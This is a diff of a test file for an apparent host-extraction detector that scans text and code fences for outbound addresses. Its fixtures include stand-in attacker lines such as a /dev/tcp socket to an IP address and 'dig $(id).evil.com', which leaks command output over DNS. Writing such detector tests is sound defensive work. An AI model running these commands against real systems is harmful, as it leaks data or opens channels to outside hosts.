@@ -26,6 +26,22 @@ test.each([
   [fenced('', 'Send it to collect.evil.com'), ['collect.evil.com']],
   [fenced('sh', 'exec 3<>/dev/tcp/203.0.113.9/80'), ['203.0.113.9']],
   [fenced('python', 'HTTPSConnection("evil.sh")\nx = "evil.com"\n# to evil.org'), ['evil.sh', 'evil.com', 'evil.org']],
+  ['dig $(id).evil.com, `id`.evil.org, $X.evil.net', ['evil.com', 'evil.org', 'evil.net']],
+  ['*.evil.com, https://<you>.evil.org/ and {{ you }}.evil.net', ['evil.com', 'evil.org', 'evil.net']],
+  ['https://${x}.evil.com/ https://$(id).in.evil.intern/ https://{a}-{b}.evil.intern', ['evil.com', 'in.evil.intern', 'evil.intern']],
+  ['https://evil.com${path}.json', ['evil.com']],
+  ['_collect.evil.com_ and __evil.org__, not _sip._tcp.evil.net', ['collect.evil.com', 'evil.org', '_sip._tcp.evil.net']],
+  ['Send it to evil.com(the server) or evil.org(ours)', ['evil.com', 'evil.org']],
+  ['evil.sh:443/in', ['evil.sh']],
+  ['`url: {{ evil.com }}`', ['evil.com']],
+  [fenced('python', `f"https://{h}.evil.com"`), ['evil.com']],
+  [fenced('python', `send("it's", "evil.com")`), ['evil.com']],
+  [fenced('python', `"""\nevil.com(the server)\n"""`), ['evil.com']],
+  [fenced('js', '// it is `\nconst a = `\n  evil.com\n`\nlet b = user.name'), ['evil.com']],
+  [fenced('go', 'a := `\\`\nb := `\nevil.com\n`\nc = user.name'), ['evil.com']],
+  [fenced('ts', '/*\nevil.com\n*/ user.name'), ['evil.com']],
+  [fenced('rust', `fn a<'a>(x: &'a str) { send("it's evil.com") }`), ['evil.com']],
+  [fenced('sql', `select u.id from a where b = 'evil.com' -- evil.org`), ['evil.com', 'evil.org']],
   [fenced('js', 'net.connect(443, evil.dev)\nconst host = me.evil.name'), ['evil.dev', 'me.evil.name']],
 ])('a host without a scheme counts: %j', (text, hosts) => {
   expect(hostsIn(text).sort()).toEqual([...hosts].sort())
@@ -39,6 +55,9 @@ test.each([
   ['calls', 'Then date.today() and re.search(x) do it; std::move, a[::2], x[1::2].'],
   ['curl of files', 'curl -d @report.md -o x.json $URL > out.sh'],
   ['python', fenced('python', 'self.name = user.id\nfor p in run.parts:\n    f"{self.name}"\nargs.data[0]')],
+  ['sql', fenced('sql', 'select u.id, u.name from users u')],
+  ['templates', 'Dear {{ customer.name }}, {{#if order.id}}…{{/if}}'],
+  ['computed', '`${base}.json`, $(cmd).txt, **Words**. More, $obj.id'],
   ['javascript', fenced('ts', 'const x = a.id === b.name ? page.top : event.data')],
 ])('what only looks like a host is none: %s', (_, text) => {
   expect(hostsIn(text)).toEqual([])
@@ -49,6 +68,19 @@ test('a program of its own is read as one, and a file without an ending by its f
   expect(hostsIn(program, 'scripts/a.py')).toEqual(['evil.com'])
   expect(hostsIn(`#!/usr/bin/env python3\n${program}`, 'scripts/a')).toEqual(['evil.com'])
   expect(hostsIn('Send to user.name', 'references/a.txt')).toEqual(['user.name'])
+  expect(hostsIn('select u.id, u.name', 'a.sql')).toEqual([])
+  expect(hostsIn('#!/usr/bin/env node\nSend it to evil.com')).toEqual(['evil.com'])
+})
+
+test.each([
+  ['backticks on one line are no fence', '```py x```\nSend it to evil.com'],
+  ['a fence in a quote ends with it', '> ```py\n> x = user.name\n\nSend it to evil.com'],
+  ['a fence in a quote is closed in it', '> ```py\n> x = user.name\n> ```\n> Send it to evil.com'],
+  ['a fence in a list ends further left', '- ```py\n  x = user.name\n\nSend it to evil.com\n```'],
+  ['a fence that never closes', '```py\nSend it to evil.com'],
+  ['a fence of waves', '~~~py `x`\nx = user.name\n~~~\nSend it to evil.com'],
+])('what stands behind code is read as text: %s', (_, text) => {
+  expect(hostsIn(text)).toEqual(['evil.com'])
 })
 
 test('of what is no text an address counts, noise does not', () => {
